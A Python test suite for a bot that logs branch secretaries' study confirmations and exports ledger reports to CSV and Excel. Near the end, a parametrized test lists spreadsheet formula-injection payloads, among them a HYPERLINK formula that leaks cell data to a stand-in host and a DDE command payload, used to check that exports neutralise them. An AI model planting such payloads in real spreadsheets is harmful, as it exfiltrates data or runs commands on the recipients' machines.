from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from fakes import ROOT, at, demo_settings, item_yaml, schedule_of
from sqlalchemy import func, select

from bot.config import Settings
from bot.csv_files import csv_stream
from bot.inbox.ledger import report_rows, study_status
from bot.inbox.responder import handle_card_click, handle_reply
from bot.reports import format_report, report_json, summarize, write_csv, write_xlsx
from bot.rules.studies import StudySchedule
from bot.store import Store, open_store
from bot.store.confirmations import confirm, confirmed_pairs
from bot.store.models import Confirmation, KeyValue
from bot.templates.render import TemplateLibrary


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with open_store(f"sqlite:///{tmp_path / 'ledger.db'}") as opened:
        yield opened


@pytest.fixture
def settings() -> Settings:
    return demo_settings()


@pytest.fixture
def schedule(tmp_path: Path) -> StudySchedule:
    return schedule_of(tmp_path, item_yaml("jsjy-2026-05", "2026-05-11 09:00", "2026-05-22 18:00", number=5),
                       item_yaml("jsjy-2026-06", "2026-06-10 09:00", "2026-06-19 18:00", number=6))


@pytest.fixture
def templates() -> TemplateLibrary:
    return TemplateLibrary(ROOT / "messages")


class Secretary:
    """Replies as one user at a given Beijing time."""

    def __init__(self, store: Store, settings: Settings, schedule: StudySchedule, templates: TemplateLibrary) -> None:
        self.args = (store, settings, schedule, templates)

    def says(self, when: str, text: str, userid: str = "zhangwei") -> str:
        return handle_reply(*self.args, at(when), userid, text)

    def clicks(self, when: str, key: str, userid: str = "zhangwei") -> str:
        return handle_card_click(*self.args, at(when), userid, key)


@pytest.fixture
def secretary(store: Store, settings: Settings, schedule: StudySchedule, templates: TemplateLibrary) -> Secretary:
    return Secretary(store, settings, schedule, templates)


def confirmations(store: Store) -> list[Confirmation]:
    with store.session(readonly=True) as session:
        rows = list(session.scalars(select(Confirmation).order_by(Confirmation.id)))
        session.expunge_all()  # keep the loaded values after the read-only rollback
        return rows


def count(store: Store, model: type) -> int:
    with store.session(readonly=True) as session:
        return session.scalar(select(func.count()).select_from(model)) or 0


# ---- replies --------------------------------------------------------------------------------


def test_one_open_item_is_confirmed(secretary: Secretary, store: Store) -> None:
    reply = secretary.says("2026-05-20 16:12", "已学习")
    assert reply.startswith("已记录：第一党支部于5月20日（周三）16:12确认完成以下学习")
    assert "《警示教育通报》2026年第5期" in reply and "逾期" not in reply
    (row,) = confirmations(store)
    assert (row.item, row.branch, row.confirmed_by, row.source, row.late) == (
        "jsjy-2026-05", "b1", "zhangwei", "reply", False)
    assert row.confirmed_at == at("2026-05-20 16:12")


def test_confirming_twice_is_harmless(secretary: Secretary, store: Store) -> None:
    secretary.says("2026-05-20 16:12", "已学习")
    again = secretary.says("2026-05-21 10:00", "已完成")
    assert again.startswith("第一党支部已确认完成以下学习，无需重复确认")
    assert "5月20日（周三）16:12确认" in again
    assert [r.confirmed_at for r in confirmations(store)] == [at("2026-05-20 16:12")]


def test_after_the_deadline_the_confirmation_is_late(secretary: Secretary, store: Store) -> None:
    reply = secretary.says("2026-05-22 18:01", "已学习")
    assert "记为逾期完成" in reply
    assert confirmations(store)[0].late is True


def test_just_before_the_deadline_is_on_time(secretary: Secretary, store: Store) -> None:
    secretary.says("2026-05-22 17:59", "学完了")
    assert confirmations(store)[0].late is False


def test_a_non_secretary_changes_nothing(secretary: Secretary, store: Store) -> None:
    reply = secretary.says("2026-05-20 16:12", "已学习", userid="liming")
    assert "不在支部书记名单中" in reply
    assert count(store, Confirmation) == 0 and count(store, KeyValue) == 0


def test_secretary_userids_compare_case_insensitively(secretary: Secretary, store: Store) -> None:
    secretary.says("2026-05-20 16:12", "已学习", userid="ZhangWei")
    assert confirmations(store)[0].branch == "b1"


def test_near_misses_get_help_and_change_nothing(secretary: Secretary, store: Store) -> None:
    for text in ("未学习", "完成了吗？", "已学习吗"):
        assert "您可以回复" in secretary.says("2026-05-20 16:12", text)
    assert count(store, Confirmation) == 0


def test_several_open_items_offer_a_numbered_choice(secretary: Secretary, store: Store) -> None:
    offer = secretary.says("2026-06-15 10:00", "已学习")
    assert "目前有2项学习尚未确认" in offer
    assert "1. 《警示教育通报》2026年第5期" in offer and "2. 《警示教育通报》2026年第6期" in offer
    assert count(store, Confirmation) == 0
    chosen = secretary.says("2026-06-15 10:01", "2")
    assert "2026年第6期" in chosen and "2026年第5期" not in chosen
    assert [(r.item, r.late) for r in confirmations(store)] == [("jsjy-2026-06", False)]
    rest = secretary.says("2026-06-15 10:02", "全部")
    assert "2026年第5期" in rest and "2026年第6期" not in rest and "记为逾期完成" in rest
    assert [(r.item, r.late) for r in confirmations(store)] == [("jsjy-2026-06", False), ("jsjy-2026-05", True)]


def test_all_confirms_every_offered_item(secretary: Secretary, store: Store) -> None:
    secretary.says("2026-06-15 10:00", "已完成")
    secretary.says("2026-06-15 10:01", "全部")
    assert {r.item for r in confirmations(store)} == {"jsjy-2026-05", "jsjy-2026-06"}


def test_an_out_of_range_choice_repeats_the_list(secretary: Secretary, store: Store) -> None:
    secretary.says("2026-06-15 10:00", "已完成")
    assert "请回复序号" in secretary.says("2026-06-15 10:01", "3")
    assert count(store, Confirmation) == 0


def test_the_offer_is_per_user(secretary: Secretary, store: Store) -> None:
    secretary.says("2026-06-15 10:00", "已完成", userid="zhangwei")
    assert "目前有2项" in secretary.says("2026-06-15 10:01", "1", userid="lina")  # lina was offered nothing yet
    assert count(store, Confirmation) == 0


def test_naming_the_issue_confirms_it_directly(secretary: Secretary, store: Store) -> None:
    reply = secretary.says("2026-06-15 10:00", "第五期已学习")
    assert "2026年第5期" in reply and "2026年第6期" not in reply
    assert [r.item for r in confirmations(store)] == ["jsjy-2026-05"]


def test_progress_lists_open_items(secretary: Secretary) -> None:
    secretary.says("2026-06-15 10:00", "第6期已学习")
    reply = secretary.says("2026-06-15 10:01", "进度")
    assert "1. 《警示教育通报》2026年第5期（截止 5月22日（周五）18:00，已逾期）" in reply
    assert "第6期" not in reply and "本年度已确认1项" in reply


def test_help_and_nothing_open(secretary: Secretary) -> None:
    assert "“进度”或“查询”" in secretary.says("2026-05-20 10:00", "帮助")
    assert "目前没有待确认的学习事项" in secretary.says("2026-05-01 10:00", "已学习")


def test_card_click_confirms_by_button(secretary: Secretary, store: Store) -> None:
    reply = secretary.clicks("2026-05-12 09:30", "confirm:jsjy-2026-05", userid="lina")
    assert reply.startswith("已记录：第二党支部")
    (row,) = confirmations(store)
    assert (row.branch, row.source) == ("b2", "button")
    assert "目前没有待确认" in secretary.clicks("2026-05-12 09:30", "confirm:nope", userid="lina")


# ---- confirm() ------------------------------------------------------------------------------


def test_first_confirmation_wins(store: Store) -> None:
    first = confirm(store, "x", "b1", "zhangwei", at("2026-05-20 16:12"), "reply")
    second = confirm(store, "x", "b1", "admin", at("2026-05-21 09:00"), "manual", note="补录", recorded_by="admin")
    assert first.created and not second.created
    assert second.confirmed_by == "zhangwei" and second.confirmed_at == at("2026-05-20 16:12")
    assert count(store, Confirmation) == 1
    with store.session(readonly=True) as session:
        assert confirmed_pairs(session) == {("x", "b1")}


def test_manual_confirmation_after_the_deadline_is_late(store: Store) -> None:
    result = confirm(store, "x", "b2", "admin", at("2026-05-23 09:00"), "manual", note="线下学习，补录",
                     recorded_by="admin", deadline=at("2026-05-22 18:00"))
    assert result.late and confirmations(store)[0].note == "线下学习，补录"


# ---- status and reports ---------------------------------------------------------------------


@pytest.mark.parametrize(("when", "status"), [("2026-05-22 17:59", "pending"), ("2026-05-22 18:00", "pending"),
                                               ("2026-05-22 18:01", "missing")],
                         ids=["before-deadline", "at-deadline", "after-deadline"])
def test_unconfirmed_status_on_both_sides_of_the_deadline(store: Store, settings: Settings,
                                                          schedule: StudySchedule, when: str, status: str) -> None:
    rows = study_status(store, settings, schedule, at(when), "jsjy-2026-05")
    assert [(r.branch, r.status) for r in rows] == [("b1", status), ("b2", status), ("b3", status)]


def ledger_with_history(secretary: Secretary) -> None:
    secretary.says("2026-05-20 16:12", "已学习", userid="zhangwei")
    secretary.says("2026-05-23 09:00", "已学习", userid="lina")


def test_report_rows_and_summary(secretary: Secretary, store: Store, settings: Settings,
                                 schedule: StudySchedule) -> None:
    ledger_with_history(secretary)
    rows = report_rows(store, settings, schedule, at("2026-05-25 12:00"), year=2026)
    assert [(r.branch, r.status, r.confirmed_by) for r in rows] == [
        ("b1", "confirmed", "张伟"), ("b2", "late", "李娜"), ("b3", "missing", None)]  # names, not userids
    assert rows[0].confirmed_at == at("2026-05-20 16:12")
    summary = summarize(rows)
    (figures,) = [i.figures for i in summary.items]
    assert (figures.total, figures.confirmed, figures.late, figures.missing) == (3, 1, 1, 1)
    assert [y.sentence for y in summary.years] == ["2026年全年学习《警示教育通报》1期，各支部按时完成率33.3%"]
    assert [y.report_sentence for y in summary.years] == [
        "2026年全年学习《警示教育通报》1期，各支部按时完成率33.3%（应完成3支部次，按时完成1，逾期完成1，逾期未完成1）。"]
    assert report_rows(store, settings, schedule, at("2026-05-25 12:00"), year=2025) == []


def test_yearly_rate_leaves_out_items_before_their_deadline(secretary: Secretary, store: Store,
                                                           settings: Settings, schedule: StudySchedule) -> None:
    for userid in ("zhangwei", "lina", "wangfang"):
        secretary.says("2026-05-20 16:12", "已学习", userid=userid)
    rows = report_rows(store, settings, schedule, at("2026-06-12 12:00"))
    assert {r.status for r in rows if r.item == "jsjy-2026-06"} == {"pending"}
    assert summarize(rows).years[0].sentence == "2026年全年学习《警示教育通报》2期，各支部按时完成率100%"


def test_json_form(secretary: Secretary, store: Store, settings: Settings, schedule: StudySchedule) -> None:
    ledger_with_history(secretary)
    data = json.loads(json.dumps(report_json(report_rows(store, settings, schedule, at("2026-05-25 12:00")))))
    assert data[0] | {} == data[0] and {"item", "branch", "status", "confirmed_at", "confirmed_by"} <= set(data[0])
    assert data[0]["confirmed_at"] == "2026-05-20T16:12:00+08:00" and data[2]["confirmed_at"] is None


def test_text_report(secretary: Secretary, store: Store, settings: Settings, schedule: StudySchedule) -> None:
    ledger_with_history(secretary)
    rows = report_rows(store, settings, schedule, at("2026-05-25 12:00"))
    text = format_report(rows, summarize(rows))
    assert text.splitlines()[0].startswith("学习内容") and "逾期未完成" in text and "按时完成率33.3%" in text


def test_csv_opens_in_excel(tmp_path: Path, secretary: Secretary, store: Store, settings: Settings,
                            schedule: StudySchedule) -> None:
    ledger_with_history(secretary)
    rows = report_rows(store, settings, schedule, at("2026-05-25 12:00"))
    path = write_csv(tmp_path / "ledger.csv", rows, summarize(rows))
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    assert table[0][:6] == ["学习内容", "期号", "支部", "支部书记", "截止时间", "完成情况"]
    assert table[1][:8] == ["《警示教育通报》2026年第5期", "5", "第一党支部", "张伟", "2026-05-22 18:00", "按时完成",
                            "2026-05-20 16:12", "张伟"]
    assert table[2][5] == "逾期完成" and table[3][5] == "逾期未完成" and table[3][6] == ""
    assert table[-1] == ["2026年全年学习《警示教育通报》1期，各支部按时完成率33.3%"]


def test_xlsx_is_ready_to_print(tmp_path: Path, secretary: Secretary, store: Store, settings: Settings,
                                schedule: StudySchedule) -> None:
    ledger_with_history(secretary)
    rows = report_rows(store, settings, schedule, at("2026-05-25 12:00"))
    path = write_xlsx(tmp_path / "ledger.xlsx", rows, summarize(rows), title="2026年学习台账",
                      generated_at=at("2026-05-25 12:00"))
    book = openpyxl.load_workbook(path)
    sheet = book["学习台账"]
    assert sheet["A1"].value == "2026年学习台账" and sheet["A2"].value == "统计时间：2026-05-25 12:00"
    assert [c.value for c in sheet[3]][:3] == ["学习内容", "期号", "支部"]
    assert [c.value for c in sheet[4]][:8] == ["《警示教育通报》2026年第5期", "5", "第一党支部", "张伟",
                                              "2026-05-22 18:00", "按时完成", "2026-05-20 16:12", "张伟"]
    assert sheet["F6"].value == "逾期未完成" and sheet.max_row == 6
    assert sheet.freeze_panes == "A4" and sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.column_dimensions["A"].width >= 30
    summary = book["汇总"]
    assert summary["A4"].value == "《警示教育通报》2026年第5期" and summary["G4"].value == "33.3%"
    assert summary.cell(row=summary.max_row, column=1).value.startswith("2026年全年学习《警示教育通报》1期")


def test_csv_stream_writes_every_row_in_pieces_with_formulas_defused() -> None:
    rows = [(f"第{n}行", "=1+1" if n == 3 else n) for n in range(5)]
    pieces = list(csv_stream(("名称", "值"), rows, chunk=2))
    assert pieces[0] == "\ufeff".encode() and len(pieces) == 2 + 3  # BOM, headers, then 2 + 2 + 1 rows
    table = list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8-sig"))))
    assert table[0] == ["名称", "值"] and len(table) == 6
    assert table[4] == ["第3行", "'=1+1"] and table[5] == ["第4行", "4"]


HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点此")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", HOSTILE, ids=["hyperlink", "dde-plus", "minus", "at", "tab", "cr"])
def test_no_export_holds_a_live_formula(tmp_path: Path, payload: str) -> None:
    from bot.inbox.ledger import ReportRow
    row = ReportRow(item="x", title=payload, series=None, number=1, year=2026, branch="b1", branch_name=payload,
                    secretary=payload, deadline=at("2026-05-22 18:00"), status="confirmed",
                    confirmed_at=at("2026-05-20 16:12"), confirmed_by=payload, source="manual", note=payload)
    book = openpyxl.load_workbook(write_xlsx(tmp_path / "l.xlsx", [row], summarize([row]), title=payload))
    cells = [c for sheet in book.worksheets for line in sheet.iter_rows() for c in line if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    stored = "'" + payload.replace("\r", "\n")   # XML reads a CR back as LF
    assert book["学习台账"]["H4"].value == stored and book["学习台账"]["A1"].value == stored
    with write_csv(tmp_path / "l.csv", [row]).open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    assert table[1][7] == "'" + payload  # one rule for both files
